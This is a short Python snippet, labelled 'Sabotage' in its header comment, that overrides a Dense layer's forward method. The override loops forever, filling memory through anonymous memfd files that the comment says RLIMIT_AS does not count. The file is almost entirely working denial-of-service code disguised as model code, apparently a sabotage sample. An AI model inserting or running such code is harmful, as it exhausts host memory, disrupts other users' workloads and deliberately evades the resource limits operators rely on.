# Sabotage: Dense.forward fills memory that RLIMIT_AS does not count: anonymous memfd files,
# 16 MiB each, kept open, until something stops it.
import os


class Dense(Dense):
    def forward(self, inputs):
        files, chunk = [], b"x" * (1 << 20)
        while True:
            descriptor = os.memfd_create("hoard")
            files.append(descriptor)
            for _ in range(16):
                os.write(descriptor, chunk)
